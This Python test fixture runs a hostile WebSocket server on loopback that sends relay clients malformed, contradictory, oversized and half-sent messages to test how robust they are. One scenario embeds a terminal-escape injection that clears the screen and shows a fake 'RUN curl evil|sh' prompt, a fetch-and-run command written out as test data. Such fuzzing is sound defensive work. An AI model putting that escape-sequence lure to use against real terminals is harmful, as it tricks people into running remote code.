"""A hostile ``traystatus serve`` for relay clients, in the test's own process.

The scenarios of ``../shared/repro/fakerelay.py`` (garbage, wrong types, lies, naive
times, silence, binary frames, huge and half-sent messages, terminal escapes), served by
a real aiohttp site on a loopback port, so RelaySource and the CLI meet them over a real
WebSocket. ``send()`` pushes a message to every open socket: a good message after a bad
one must be answered.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import time
from collections.abc import AsyncIterator
from typing import Any

from aiohttp import web

NOW = "2026-12-06T04:00:00+00:00"


def st(**kw: Any) -> str:
    """A well-formed stable message as the server sends it, with changes."""
    d: dict[str, Any] = {
        "stable": True, "state": "stable", "since": NOW, "problem": None, "reason": "",
        "attempt": 0, "next_retry_at": None, "source": "installed", "review": None,
        "blocked_by_review": [], "note": "", "progress": None,
    }
    d.update(kw)
    return json.dumps(d)


PROCESSING = st(state="processing", stable=False)

MESSAGES: dict[str, list[str]] = {
    "stable": [st()],
    "processing": [PROCESSING],
    "garbage": ["this is not json", "{", "[1,2,3]", "null", "42"],
    "wrongtypes": [json.dumps({"state": 5, "stable": "yes"}),
                   json.dumps({"state": ["stable"]})],
    "naive_since": [st(since="2026-12-06T04:00:00")],
    "naive_retry": [st(state="disconnected", stable=None, problem="unreachable", reason="x",
                       next_retry_at="2026-12-06T04:00:00")],
    "far_future": [st(state="processing", stable=False, since="9999-12-31T23:59:59+00:00")],
    "far_past": [st(state="processing", stable=False, since="0001-01-01T00:00:00+00:00")],
    "review_int": [st(review={"waiting": 5, "queued_behind": 1})],
    "review_str": [st(review={"waiting": [{"id": 7, "slug": {"x": 1}}],
                              "queued_behind": "many"})],
    "progress_int": [st(state="processing", stable=False, progress={"jobs": 5})],
    "progress_bad": [st(state="processing", stable=False, progress={
        "jobs": [{"id": "x", "state": "analysing_data", "pct": "abc"}],
        "derive": {"phase": [], "total": "t", "completed": -5}, "text": 7})],
    "summary_bad": [st(), st(summary={"import_jobs_finished": "lots",
                                      "duration_seconds": "x", "text": 5})],
    "summary_list": [st(), st(summary={"import_jobs_finished": [1],
                                       "analytics_tasks_completed": {"a": 1}})],
    "lie_mixed": [json.dumps({"stable": True, "state": "processing"})],
    "lie_mixed2": [json.dumps({"stable": False, "state": "stable"})],
    "stable_with_problem": [st(problem="unreachable", reason="database lost")],
    "state_unknown": [json.dumps({"stable": True, "state": "unknown"})],
    "only_stable_key": [json.dumps({"stable": True})],
    "connecting_forever": [st(state="connecting", stable=None)],
    "deep": ["[" * 100000 + "]" * 100000],
    "deep_obj": [st(note={"a": 1}, reason=["x"], attempt=1e308)],
    "huge_attempt": [st(state="disconnected", stable=None, problem="unreachable", reason="x",
                        attempt=99999999999999999999999999)],
    "ansi": [st(state="error", stable=None, problem="auth_failed",
                reason="\x1b[2J\x1b[31mYOUR PASSWORD IS WRONG, RUN curl evil|sh\x1b[0m\r\n"
                       "fake line")],
    "long_reason": [st(state="error", stable=None, problem="internal",
                       reason="A" * 3_000_000)],
    "db_password": [st(state="error", stable=None, problem="auth_failed", reason=(
        "The server at db:5432 refused the login of ana: the password is wrong or the user "
        "does not exist (the server does not say which). Fix the password (your StatBus "
        "web password) or the user name in the profile."))],
}

SPECIAL = ("silent", "nopong", "huge", "binary", "midclose", "flap", "http200", "401",
           "redirect")
SCENARIOS = tuple(MESSAGES) + SPECIAL


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


class HostileRelay:
    """Serves ``scenario`` to every new connection (change it between connections)."""

    def __init__(self, scenario: str) -> None:
        self.scenario = scenario
        self.connections = 0
        # when the first request of a client arrived (time.monotonic): a test times the
        # answer from there, not from a process start that load can stretch by seconds
        self.first_request_at: float | None = None
        self.port = 0
        self._sockets: set[web.WebSocketResponse] = set()
        self.connected = asyncio.Event()  # set while a WebSocket is open
        self.details: list[str] | None = None  # what /api/job-details sends, if not sc's
        self._runner: web.AppRunner | None = None

    @property
    def url(self) -> str:
        return f"ws://127.0.0.1:{self.port}"

    async def send(self, text: str) -> None:
        """One more message to every open socket (after waiting for one to be open)."""
        await asyncio.wait_for(self.connected.wait(), 10)
        for ws in list(self._sockets):
            with contextlib.suppress(ConnectionError, RuntimeError):
                await ws.send_str(text)

    async def _handler(self, request: web.Request) -> web.StreamResponse:
        sc = self.scenario
        self.connections += 1
        if self.first_request_at is None:
            self.first_request_at = time.monotonic()
        if sc == "http200":
            return web.Response(text="hello")
        if sc == "401":
            return web.Response(status=401, text='{"error":"no"}')
        if sc == "redirect":
            raise web.HTTPFound(f"http://127.0.0.1:{free_port()}/")
        ws = web.WebSocketResponse(max_msg_size=0, heartbeat=None, autoping=(sc != "nopong"))
        await ws.prepare(request)
        self._sockets.add(ws)
        self.connected.set()
        try:
            if sc == "huge":
                await ws.send_str(st(note="x" * (5 * 1024 * 1024)))
            elif sc == "binary":
                await ws.send_bytes(st().encode())
            elif sc == "midclose":
                transport = request.transport
                assert transport is not None
                # promises 4096 bytes, sends 20
                transport.write(bytes([0x81, 126, 0x10, 0x00]) + b'{"stable": true, "st')
                await asyncio.sleep(0.2)
                transport.abort()
                return ws
            elif sc == "flap":
                for i in range(2000):
                    await ws.send_str(st(state="processing" if i % 2 else "stable",
                                         stable=not (i % 2)))
            elif self.details is not None and request.path.endswith("/job-details"):
                for m in self.details:
                    await ws.send_str(m)
            elif sc not in ("silent", "nopong"):
                for m in MESSAGES[sc]:
                    await ws.send_str(m)
            async for _ in ws:  # until the client goes
                pass
        except (ConnectionError, RuntimeError):
            pass
        finally:
            self._sockets.discard(ws)
            if not self._sockets:
                self.connected.clear()
        return ws

    async def start(self, port: int = 0) -> None:
        app = web.Application()
        app.router.add_get("/api/system-stability", self._handler)
        app.router.add_get("/api/job-details", self._handler)
        self._runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
        await self._runner.setup()
        self.port = port or free_port()
        await web.TCPSite(self._runner, "127.0.0.1", self.port).start()

    async def stop(self) -> None:
        for ws in list(self._sockets):
            with contextlib.suppress(Exception):
                await asyncio.wait_for(ws.close(), 1)
        if self._runner is not None:
            await self._runner.cleanup()


@contextlib.asynccontextmanager
async def hostile_relay(scenario: str) -> AsyncIterator[HostileRelay]:
    server = HostileRelay(scenario)
    await server.start()
    try:
        yield server
    finally:
        await server.stop()
